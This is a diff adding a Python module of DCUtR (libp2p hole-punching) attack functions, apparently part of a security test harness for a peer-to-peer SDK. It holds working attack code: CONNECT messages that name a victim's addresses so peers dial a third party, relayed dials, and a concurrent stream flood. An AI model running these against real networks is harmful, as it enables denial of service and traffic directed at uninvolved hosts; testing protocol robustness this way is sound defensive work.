@@ -1,0 +1,86 @@
+"""DCUtR attacks: CONNECT naming a victim's address, over a direct or a relayed connection,
+and floods of ``/libp2p/dcutr`` streams."""
+
+from __future__ import annotations
+
+import contextlib
+from typing import Any
+
+import multiaddr
+import trio
+from _attacker import attack
+from libp2p.custom_types import TProtocol
+from libp2p.peer.id import ID
+
+from ucsdk._wire import read_delimited, write_delimited
+from ucsdk.proto import HolePunch
+
+DCUTR = TProtocol("/libp2p/dcutr")
+CONNECT, SYNC = 100, 300
+
+
+def _message(kind: int, addrs: list[str] = ()) -> bytes:  # type: ignore[assignment]
+    message = HolePunch(type=kind)
+    for addr in addrs:
+        message.ObsAddrs.append(multiaddr.Multiaddr(addr).to_bytes())
+    return bytes(message.SerializeToString())
+
+
+async def _exchange(host: Any, peer: ID, addrs: list[str], wait: float) -> dict[str, Any]:
+    """One CONNECT naming ``addrs``, then SYNC as soon as CONNECT is answered."""
+    try:
+        with trio.fail_after(10):
+            stream = await host.new_stream(peer, [DCUTR])
+    except Exception as exc:
+        return {"opened": False, "ended": type(exc).__name__, "answered": False}
+    ended, answered = "timeout", False
+    with trio.move_on_after(wait):
+        try:
+            await write_delimited(stream, _message(CONNECT, addrs))
+            reply = HolePunch.FromString(await read_delimited(stream, 4096))
+            answered = reply.type == CONNECT
+            await write_delimited(stream, _message(SYNC))
+            while await stream.read(4096):
+                pass
+            ended = "eof"
+        except Exception as exc:
+            ended = "reset" if "reset" in type(exc).__name__.lower() else type(exc).__name__
+    with trio.move_on_after(2), contextlib.suppress(Exception):
+        await stream.reset()
+    return {"opened": True, "ended": ended, "answered": answered}
+
+
+@attack("dcutr_connect")
+async def dcutr_connect(host: Any, args: dict[str, Any]) -> dict[str, Any]:
+    """On a connection already open to ``args["peer"]``: CONNECT naming ``args["addrs"]``
+    then SYNC. ``{"opened", "answered" (a CONNECT came back), "ended"}``."""
+    return await _exchange(host, ID.from_base58(args["peer"]), args["addrs"], args.get("wait", 5))
+
+
+@attack("relay_dial")
+async def relay_dial(host: Any, args: dict[str, Any]) -> str:
+    """Connect to ``args["peer"]`` through the relay at ``args["relay_addr"]`` (with
+    ``/p2p/<relay>``); the type of the connection that results."""
+    from ucsdk.nat.relay import CircuitRelayClient
+
+    relay_addr, relay_id = args["relay_addr"].split("/p2p/")
+    client = CircuitRelayClient(host)
+    conn = await client.dial(args["peer"], relay_id, relay_addr)
+    return str(conn.get_transport_addresses())
+
+
+@attack("dcutr_flood")
+async def dcutr_flood(host: Any, args: dict[str, Any]) -> dict[str, int]:
+    """``args["count"]`` concurrent exchanges naming ``args["addrs"]``; how they ended."""
+    peer = ID.from_base58(args["peer"])
+    outcomes: dict[str, int] = {}
+
+    async def one() -> None:
+        result = await _exchange(host, peer, args["addrs"], args.get("wait", 5))
+        key = "answered" if result["answered"] else result["ended"]
+        outcomes[key] = outcomes.get(key, 0) + 1
+
+    async with trio.open_nursery() as nursery:
+        for _ in range(int(args["count"])):
+            nursery.start_soon(one)
+    return outcomes
